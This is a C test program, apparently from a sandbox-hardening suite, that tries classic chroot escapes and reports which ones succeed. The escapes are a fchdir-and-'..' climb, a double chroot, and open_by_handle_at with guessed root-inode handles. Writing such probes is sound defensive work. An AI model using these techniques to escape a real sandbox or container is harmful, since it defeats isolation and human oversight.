/* hostile_chroot: the classic ways out of a root directory. Argument: a directory that only the host has. */
#include <sched.h>

#include "hostile_common.h"

static char canary[4096];

static bool host_is_here(void)
{
	return access(canary + 1, F_OK) == 0;
}

int main(int argc, char **argv)
{
	struct { struct file_handle h; unsigned char b[128]; } handle = { .h.handle_bytes = 128 };
	int fd, i, mount_id;
	bool out;

	snprintf(canary, sizeof(canary), "%s", argc > 1 ? argv[1] : "/nonexistent");
	verdict(access(canary, F_OK) == 0, "host directory is visible");
	fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	mkdir("/tmp/jail", 0700);
	if (chroot("/tmp/jail") < 0)
		printf("chroot refused\n");
	out = false;
	if (fchdir(fd) == 0)
		for (i = 0; i < 64; i++)
			out |= chdir("..") == 0 && host_is_here();
	verdict(out, "chroot and ..");
	if (chroot(".") < 0)
		printf("chroot refused\n");
	out = chdir("/") == 0 && (host_is_here() || access("lost+found", F_OK) == 0);
	verdict(out, "chroot twice");
	/* The root of ext4, xfs and btrfs has a well-known handle. */
	out = false;
	for (i = 0; i < 3; i++) {
		static const unsigned roots[] = { 2, 128, 256 };
		unsigned f[2] = { roots[i], 0 };
		int h;

		handle.h.handle_bytes = 8;
		handle.h.handle_type = 1;
		memcpy(handle.h.f_handle, f, 8);
		h = (int)syscall(SYS_open_by_handle_at, fd, &handle, O_RDONLY);
		out |= h >= 0;
	}
	verdict(out, "open_by_handle_at");
	handle.h.handle_bytes = 128;
	if (name_to_handle_at(fd, ".", &handle.h, &mount_id, 0) == 0)
		verdict(syscall(SYS_open_by_handle_at, fd, &handle, O_RDONLY) >= 0 && host_is_here(), "own handle");
	return escapes != 0;
}
